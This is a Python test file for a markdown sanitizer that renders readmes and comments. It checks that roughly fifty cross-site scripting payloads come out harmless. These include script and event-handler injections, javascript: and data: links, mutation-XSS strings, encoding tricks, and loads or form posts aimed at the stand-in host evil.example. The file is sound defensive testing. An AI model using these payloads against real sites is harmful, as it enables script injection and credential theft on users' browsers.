"""Markdown of strangers: what is kept of it, and that nothing of it can do anything."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from index_service import markdown

EVIL = "http://evil.example/x"

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a onclick=alert(1)>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    f"![x]({EVIL})",
    f'![x]({EVIL} "onload=alert(1)")',
    '[x](http://a.example "\\" onmouseover=\\"alert(1)")',
    '[x](http://a.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "- <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "**<b onmouseover=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "[<script>alert(1)</script>](http://a.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "</div></main><script>alert(1)</script>",
]

KEPT = {
    *("a", "br", "code", "del", "em", "strong", "blockquote", "hr", "li", "ol", "p", "pre", "ul", "s"),
    *("h3", "h4", "h5", "h6", "table", "tbody", "td", "th", "thead", "tr"),
}


class Elements(HTMLParser):
    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize("render", [markdown.readme, markdown.comment])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_it_can_do_anything(render, attack):
    for text in (attack, f"a {attack} b", f"{attack}\n\n{attack}", f"* {attack}\n\n  {attack}"):
        for tag, attributes in Elements(render(text)).tags:
            assert tag in KEPT
            assert attributes.keys() <= {"href", "title", "rel", "start", "tabindex"}
            if tag == "a" and "href" in attributes:
                assert attributes["rel"] == "nofollow ugc noopener"
                assert re.match(r"(https?://|mailto:|[^:]*$)", attributes["href"]), attributes


def test_what_a_readme_is_made_of():
    rendered = markdown.readme(
        '# Title\n\n## Part\n\nText *and* **more** with `code`, ~~gone~~, [a link](https://a.example/ "t").\n\n'
        "1. one\n2. two\n\n- dot\n\n> said\n\n```sh\nls\n```\n\n| a | b |\n|---|:-:|\n| 1 | 2 |\n\n---\n"
    )
    tags = [tag for tag, _ in Elements(rendered).tags]
    for tag in ("h3", "h4", "em", "strong", "code", "s", "a", "ol", "ul", "blockquote", "pre", "table", "th", "hr"):
        assert tag in tags, tag
    assert "style=" not in rendered
    assert "class=" not in rendered
    assert '<pre tabindex="0">' in rendered


def test_a_comment_knows_less():
    rendered = markdown.comment("# no heading\n\nTitle\n---\n\n|a|\n|-|\n|b|\n\n*yes* `yes`\n\n- yes\n")
    assert {tag for tag, _ in Elements(rendered).tags} == {"p", "em", "code", "ul", "li", "hr"}


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("![a *whale*](http://e.example/x.png)", [("http://e.example/x.png", "a whale")]),
        ("![](http://e.example/x.png)", [("http://e.example/x.png", "http://e.example/x.png")]),
        ("[![build](http://e.example/b.svg)](http://ci.example)", [("http://ci.example", "build")]),
        ("[](http://a.example)", [("http://a.example", "http://a.example")]),
        ("![x](/static/style.css)", [("/static/style.css", "x")]),
    ],
)
def test_no_image_is_loaded_and_no_link_is_without_words(text, links):
    html = markdown.readme(text)
    found = Elements(html)
    assert "img" not in [tag for tag, _ in found.tags]
    assert [attributes["href"] for tag, attributes in found.tags if tag == "a"] == [target for target, _ in links]
    assert found.text.strip() == links[0][1]


def test_what_is_too_long_is_shown_as_it_is():
    rendered = markdown.readme("<b>*x*" + "y" * markdown.MAX_LENGTH)
    assert rendered.startswith("<pre tabindex=0>&lt;b&gt;*x*y")


def test_the_same_text_is_rendered_once():
    rendered = []

    class Counting:
        def render(self, text):
            rendered.append(text)
            return f"<p>{text}</p>"

    render = markdown.Renderer(Counting(), {"p"})
    assert render("one") == render("one") == "<p>one</p>"
    render("two")
    assert rendered == ["one", "two"]


@pytest.mark.parametrize("text", ["![](a)" * 16_000, "[![](a)](b) ![](c)"])
def test_pictures_in_links_and_beside_them(text):
    """However many stand in one paragraph: each is counted once, or this would not end."""
    html = str(markdown.readme(text))
    assert html.count("<a ") == (16_000 if len(text) > 100 else 2)
